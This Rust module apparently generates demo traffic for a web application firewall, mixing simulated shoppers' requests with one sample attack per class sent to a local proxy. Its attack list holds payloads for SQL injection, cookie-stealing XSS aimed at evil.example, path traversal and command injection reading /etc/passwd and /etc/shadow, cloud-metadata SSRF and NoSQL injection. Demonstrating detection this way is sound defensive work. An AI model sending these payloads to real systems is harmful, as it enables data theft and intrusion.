//! Traffic for the demo, so that a newcomer's dashboard has charts and a live
//! feed within seconds: a few visitors browsing and searching, an API client
//! posting JSON, log-ins, and now and then an attack of each class, from a
//! handful of loopback addresses (127.0.0.10 to .14: Linux answers on all of
//! 127/8, so each visitor really connects from its own address).
//!
//! The attacks are written here, one plain example per class, enough to show
//! each kind of finding; they are not a test set.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper_util::rt::TokioIo;

/// One request the demo sends.
struct Visit {
    method: &'static str,
    target: String,
    content_type: Option<&'static str>,
    body: String,
}

fn get(target: impl Into<String>) -> Visit {
    Visit {
        method: "GET",
        target: target.into(),
        content_type: None,
        body: String::new(),
    }
}

fn post(target: &str, content_type: &'static str, body: String) -> Visit {
    Visit {
        method: "POST",
        target: target.to_owned(),
        content_type: Some(content_type),
        body,
    }
}

const WORDS: &[&str] = &[
    "blue shoes",
    "rain jacket",
    "wool socks",
    "running shoes size 42",
    "gift card",
    "summer dress",
    "backpack",
    "coffee mug",
    "desk lamp",
    "kids t-shirt",
];

/// One attack per class, in turn.
fn attack(n: usize) -> Visit {
    match n % 8 {
        0 => get("/search?q=%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"),
        1 => get(
            "/search?q=%3Cscript%3Edocument.location%3D%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E",
        ),
        2 => get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        3 => get("/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fshadow"),
        4 => get("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        5 => post(
            "/login",
            "application/x-www-form-urlencoded",
            "user=admin%27%20OR%20%271%27%3D%271%27--&password=x".into(),
        ),
        6 => post(
            "/api/echo",
            "application/json",
            r#"{"user":{"$ne":null},"password":{"$gt":""}}"#.into(),
        ),
        _ => get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    }
}

/// The `n`-th ordinary request of a visitor.
fn browse(n: usize, visitor: usize) -> Visit {
    let word = WORDS[(n + visitor) % WORDS.len()];
    match n % 6 {
        0 => get("/"),
        1 | 2 => get(format!("/search?q={}", word.replace(' ', "+"))),
        3 => post(
            "/api/echo",
            "application/json",
            format!(
                r#"{{"cart":[{{"sku":"SKU-{:05}","qty":{}}}],"note":"{word}"}}"#,
                n * 7 + visitor,
                1 + n % 3
            ),
        ),
        4 => post(
            "/login",
            "application/x-www-form-urlencoded",
            format!("user=visitor{visitor}&password=correct-horse-{n}"),
        ),
        _ => get(format!(
            "/products/{}?ref=home",
            100 + (n * 13 + visitor) % 50
        )),
    }
}

/// Sends the demo's traffic to Wafer at `proxy` until the task is dropped:
/// about five requests a second, one in twelve an attack.
pub(crate) async fn drive(proxy: SocketAddr) {
    let mut tick = tokio::time::interval(Duration::from_millis(200));
    let mut n = 0usize;
    loop {
        tick.tick().await;
        n += 1;
        let visitor = n % 5;
        let attack_turn = n.is_multiple_of(12);
        let visit = if attack_turn {
            attack(n / 12)
        } else {
            browse(n, visitor)
        };
        // The attacker is one visitor (so the feed shows one address
        // attacking), the others browse.
        let from = if attack_turn {
            14
        } else {
            10 + visitor as u8 % 4
        };
        if let Err(e) = send(proxy, from, &visit).await {
            tracing::debug!(error = %e, "demo traffic: request failed");
        }
    }
}

async fn send(
    proxy: SocketAddr,
    from: u8,
    v: &Visit,
) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let sock = tokio::net::TcpSocket::new_v4()?;
    // Where binding to another loopback address is not allowed, the default one.
    let _ = sock.bind(SocketAddr::new(
        IpAddr::V4(Ipv4Addr::new(127, 0, 0, from)),
        0,
    ));
    let stream = sock.connect(proxy).await?;
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await?;
    tokio::spawn(conn);
    let mut req = http::Request::builder()
        .method(v.method)
        .uri(&v.target)
        .header("host", "demo.shop.example")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        )
        .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8");
    if let Some(ct) = v.content_type {
        req = req.header("content-type", ct);
    }
    let resp = sender
        .send_request(req.body(Full::new(Bytes::from(v.body.clone())))?)
        .await?;
    let _ = resp.into_body().collect().await;
    Ok(())
}
